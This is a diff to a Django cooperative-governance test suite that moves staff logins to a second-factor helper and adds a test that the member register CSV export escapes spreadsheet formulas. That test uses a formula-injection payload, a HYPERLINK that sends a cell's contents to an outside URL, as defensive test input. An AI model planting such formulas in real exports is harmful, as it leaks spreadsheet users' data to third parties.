@@ -19,7 +19,7 @@ from terreau.governance.models import (
     ShareMovement,
     Statutes,
 )
-from tests.accounts.factories import UserFactory
+from tests.accounts.factories import UserFactory, sign_in_with_second_factor
 from tests.governance.factories import cooperative, member
 from tests.territories.factories import commune
 
@@ -64,7 +64,7 @@ def settings_post(colleges, **overrides):
     ],
 )
 def test_staff_cannot_save_colleges_unfit_for_a_scic(client, staff, colleges, message):
-    client.force_login(staff)
+    sign_in_with_second_factor(client, staff)
     response = client.post(reverse("governance:settings"), settings_post(colleges))
     assert response.status_code == 200
     assert message in response.content.decode()
@@ -72,7 +72,7 @@ def test_staff_cannot_save_colleges_unfit_for_a_scic(client, staff, colleges, me
 
 
 def test_staff_save_settings_and_colleges(client, staff):
-    client.force_login(staff)
+    sign_in_with_second_factor(client, staff)
     response = client.post(
         reverse("governance:settings"),
         settings_post([("Fondateurs", 40), ("Citoyens", 40), ("Lieux", 20)], share_price="25"),
@@ -89,7 +89,7 @@ def test_staff_save_settings_and_colleges(client, staff):
 def test_a_college_with_members_cannot_be_deleted(client, staff, territories):
     colleges = cooperative([("A", 40), ("B", 30), ("C", 30)])
     member(colleges[2])
-    client.force_login(staff)
+    sign_in_with_second_factor(client, staff)
     data = settings_post([])
     data.update({"c-TOTAL_FORMS": "3", "c-INITIAL_FORMS": "3"})
     for i, college in enumerate(colleges):
@@ -136,7 +136,7 @@ def test_applying_then_being_admitted_on_payment(
     assert "attend votre paiement" in client.get(reverse("governance:apply")).content.decode()
     assert not Member.objects.exists()
 
-    client.force_login(staff)
+    sign_in_with_second_factor(client, staff)
     with django_capture_on_commit_callbacks(execute=True):
         response = client.post(
             reverse("governance:record_payment", args=[application.pk]),
@@ -210,7 +210,7 @@ def test_a_certificate_is_seen_by_its_member_and_staff_only(client, territories,
     assert client.get(url).status_code == 404
     client.force_login(member(colleges[0]).person)  # another member
     assert client.get(url).status_code == 404
-    client.force_login(staff)
+    sign_in_with_second_factor(client, staff)
     assert client.get(url).status_code == 200
     client.force_login(alice.person)
     assert client.get(url).status_code == 200
@@ -276,7 +276,7 @@ def test_a_movement_cannot_leave_fewer_shares_than_the_minimum(territories, staf
 def test_the_movement_form_names_unknown_members_and_records_nothing(client, territories, staff):
     colleges = cooperative()
     alice = member(colleges[0], shares=2)
-    client.force_login(staff)
+    sign_in_with_second_factor(client, staff)
     response = client.post(
         reverse("governance:record_movement"),
         {
@@ -325,7 +325,7 @@ def test_the_register_exports_every_movement_as_csv(client, territories, staff):
         reference="acte",
         recorded_by=staff,
     )
-    client.force_login(staff)
+    sign_in_with_second_factor(client, staff)
     response = client.get(reverse("governance:register_csv"))
     assert response["Content-Type"].startswith("text/csv")
     rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
@@ -335,6 +335,38 @@ def test_the_register_exports_every_movement_as_csv(client, territories, staff):
     assert rows[3][5:7] == ["cession consentie", "-1"]
     assert rows[4][1] == str(bob.number)
     assert rows[4][9] == str(alice.number)
+
+
+def test_the_register_csv_never_carries_a_formula(client, territories, staff):
+    """A legal name or an address typed as a formula reaches the spreadsheet
+    as text (issue 21, 11); a negative number of shares stays a number."""
+    colleges = cooperative()
+    person = UserFactory()
+    application = services.apply_for_membership(
+        person=person,
+        college=colleges[0],
+        shares=2,
+        legal_name='=HYPERLINK("https://example.org/?"&C2;"Voir")',
+        postal_address="@SUM(1+1)\n34120 Pézenas",
+        show_name=False,
+        accepts_statutes=True,
+    )
+    services.record_payment(
+        application=application,
+        recorded_by=staff,
+        paid_on=timezone.localdate(),
+        reference="+33 6 00 00 00 00",
+    )
+    sign_in_with_second_factor(client, staff)
+    response = client.get(reverse("governance:register_csv"))
+    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
+    line = rows[-1]
+    assert line[2] == '\'=HYPERLINK("https://example.org/?"&C2;"Voir")'
+    assert line[3] == "'@SUM(1+1), 34120 Pézenas"
+    assert line[10] == "'+33 6 00 00 00 00"
+    assert line[6] == "2"
+    for cell in line:
+        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
 
 
 def test_the_campaign_counts_members_per_college_and_territory(client, territories):
